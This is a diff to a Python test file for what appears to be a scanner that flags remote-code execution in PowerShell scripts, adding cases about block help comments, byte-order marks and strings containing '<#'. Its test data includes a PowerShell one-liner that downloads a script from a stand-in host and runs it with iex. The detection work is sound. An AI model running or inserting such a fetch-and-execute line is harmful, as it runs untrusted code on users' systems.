@@ -69,6 +69,10 @@ def test_powershell_s_own_script_needs_no_powershell() -> None:
     line = "iex (iwr 'https://acme.example/x.ps1' -UseBasicParsing)\r\n"
     assert found(line, "setup.ps1") == {"runs-remote-code": HIGH}
     assert found(f"# {line}", "setup.ps1") == {}
+    help_comment = f"<#\r\n.EXAMPLE\r\n{line}#>\r\n"
+    assert found(f"\ufeff{help_comment}", "setup.ps1") == {}
+    assert found(f"{help_comment}{line}", "setup.ps1") == {"runs-remote-code": HIGH}
+    assert found(f'Write-Host "<#"\r\n{line}', "setup.ps1") == {"runs-remote-code": HIGH}
     assert found("iex (Get-Content x.ps1)\r\niwr 'https://acme.example'", "setup.ps1") == {}
 
 
